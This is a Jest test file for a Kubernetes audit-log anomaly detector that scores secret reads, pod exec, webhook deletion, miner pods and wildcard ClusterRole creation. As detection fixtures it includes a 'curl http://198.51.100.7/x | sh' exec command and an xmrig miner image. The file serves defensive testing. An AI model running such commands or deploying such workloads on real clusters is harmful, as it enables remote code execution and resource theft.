import { describe, expect, test } from '@jest/globals';
import type { ApiRequest } from '../../../lib/audit/request.ts';
import { userAgentOf } from '../../../lib/audit/user-agent.ts';
import { windowOf } from '../../../lib/time.ts';
import { alice, cart, command, monday } from '../requests.ts';
import { day, hour, liveThrough, requestAt, routine } from './lives.ts';

const days = 14;
const reading = (name: string): Partial<ApiRequest> => ({ verb: 'get', resource: 'secrets', namespace: 'shop', name });
const nightly = (names: (night: number) => readonly string[]): ApiRequest[] =>
  Array.from({ length: days }, (_, night) => names(night).map((name) => requestAt(night * day, reading(name)))).flat();
const decadesOf = (before: readonly ApiRequest[], last: ApiRequest): number =>
  liveThrough([...[...routine({ until: days * day }), ...before].sort((one, other) => one.time - other.time), last]).signals.find(({ detector }) => detector === 'secret-read')?.decades ?? 0;

describe('how surprising one more is', () => {
  const five = Array.from({ length: 5 }, (_, index) => `secret-${'abcde'.charAt(index)}`);
  const last = requestAt(days * day, reading('other'));

  test('depends on how often there was a new one, not on how many are read at once', () => {
    const alwaysTheSame = decadesOf(nightly(() => five), last);
    const oftenOneMore = decadesOf(nightly((night) => [...five, `tenant-${'abcdefghijklmn'.charAt(night)}-key`]), last);
    const one = decadesOf(nightly(() => five.slice(0, 1)), last);
    expect(alwaysTheSame).toBeGreaterThan(oftenOneMore + 0.3);
    expect(Math.abs(alwaysTheSame - one)).toBeLessThan(0.8);
  });
});

describe('a person who runs commands', () => {
  const shell = (namespace: string): Partial<ApiRequest> => ({ identity: alice, verb: 'create', resource: 'pods/exec', namespace, name: 'web-0', query: command('bash', '-c', 'curl http://198.51.100.7/x | sh') });
  const life = (every: number): ApiRequest[] => routine({ until: days * day, every }, { identity: alice });
  const graveOf = (requests: readonly ApiRequest[]): number => Math.max(0, ...liveThrough(requests.toSorted((one, other) => one.time - other.time)).signals.filter(({ key }) => key.startsWith('exec/')).map(({ decades }) => decades));

  test('is not excused by one grave command for the next elsewhere', () => {
    const second = graveOf([...life(hour), requestAt(2 * day, shell('shop')), requestAt(days * day, shell('web'))]);
    expect(second).toBeGreaterThanOrEqual(3);
  });
});

describe('in a cluster of which nothing is known', () => {
  const unknown = (age: number) => ({ clusterSince: () => windowOf(monday) - age });
  const webhook: Partial<ApiRequest> = { verb: 'delete', resource: 'admissionregistration.k8s.io/validatingwebhookconfigurations', name: 'policy' };
  const scoreOf = (given: Partial<ApiRequest>, age: number): number =>
    Math.max(0, ...liveThrough([requestAt(0, { identity: given.identity ?? cart }), requestAt(hour, given)], unknown(age)).signals.filter(({ group }) => group === 'act').map(({ decades }) => decades));

  test('what is grave in any is told of, done by people at once', () => {
    expect(scoreOf({ ...webhook, identity: alice }, 0)).toBeGreaterThanOrEqual(4.5);
    expect(scoreOf(webhook, 0)).toBeLessThan(4.5);
  });

  test('what is grave by machines too, when nothing honest does it', () => {
    const miner: Partial<ApiRequest> = { verb: 'create', resource: 'pods', namespace: 'shop', name: 'x', body: { spec: { containers: [{ image: 'xmrig/xmrig:6' }] } } };
    expect(scoreOf(miner, 0)).toBeGreaterThanOrEqual(4.5);
  });

  test('what is only seldom done is not', () => {
    const reading: Partial<ApiRequest> = { identity: alice, verb: 'list', resource: 'secrets', namespace: 'shop' };
    expect(scoreOf(reading, 0)).toBeLessThan(3);
  });

  test('many refusals are told of', () => {
    const refused = Array.from({ length: 60 }, (_, index) => requestAt(index * 1000, { verb: 'list', resource: 'secrets', namespace: `team-${String(index)}`, name: '', outcome: 'refused' }));
    expect(liveThrough(refused, unknown(0)).episode?.reached.medium).toBeDefined();
  });
});

describe('what is grave and was reported', () => {
  const wildcard = (at: number): ApiRequest => requestAt(at, { identity: alice, verb: 'create', resource: 'rbac.authorization.k8s.io/clusterroles', name: 'everything', body: { metadata: { name: 'everything' }, rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] } });
  const reportedAfter = (...times: readonly number[]): boolean => {
    const requests = [...routine({ until: times.at(-1) ?? 0 }, { identity: alice }), ...times.map(wildcard)].sort((one, other) => one.time - other.time);
    const { episode } = liveThrough(requests);
    return [...(episode?.signals.keys() ?? [])].some((key) => key.startsWith('permission-change/'));
  };

  test('is told of again when it comes back after a day', () => {
    expect(reportedAfter(8 * day, 11 * day)).toBe(true);
  });

  test('is not when it goes on', () => {
    expect(reportedAfter(...Array.from({ length: 40 }, (_, index) => 8 * day + index * 2 * hour))).toBe(false);
  });
});

describe('what was reported and goes on', () => {
  test('makes one more of its kind less of a surprise', () => {
    const sweep = (at: number): ApiRequest[] => ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'].map((name, index) => requestAt(at + index * 1000, reading(`key-${name}`)));
    const lastAfter = (sweeps: readonly number[]): number => {
      const before = [...routine({ until: days * day }), ...sweeps.flatMap((at) => sweep(at * day))].sort((one, other) => one.time - other.time);
      const { state, signals } = liveThrough([...before, requestAt(days * day, reading('key-z'))]);
      expect(state.baseline.traits.get('secret-read|shop/key-a')?.quarantined).toBeDefined();
      return signals.find(({ key }) => key === 'secret-read|shop/key-z')?.decades ?? 0;
    };
    expect(lastAfter([11, 12, 13])).toBeLessThan(lastAfter([11]) - 1);
  });
});

describe('what was usual', () => {
  test('stays usual though it was reported as done from elsewhere', () => {
    const usual = nightly(() => ['key']);
    const away = requestAt(days * day, { ...reading('key'), address: '198.51.100.7', network: { block: '198.51.100.0/24', scope: 'public' }, agent: userAgentOf('curl/8.5.0') });
    const attack = ['a', 'b', 'c', 'd', 'e', 'f'].map((name, index) => requestAt(days * day + 1000 * index, { ...away, ...reading(`other-${name}`) }));
    const { state } = liveThrough([...usual, away, ...attack.map((request, index) => ({ ...request, auditId: `attack-${String(index)}` }))]);
    expect(state.episode?.reached.medium).toBeDefined();
    const quarantined = [...state.baseline.traits].filter(([, trait]) => trait.quarantined !== undefined).map(([key]) => key);
    expect(quarantined).toContain('secret-read|shop/other-a');
    expect(quarantined).not.toContain('secret-read|shop/key');
    expect(windowOf(monday + days * day)).toBe(state.episode?.begun);
  });
});
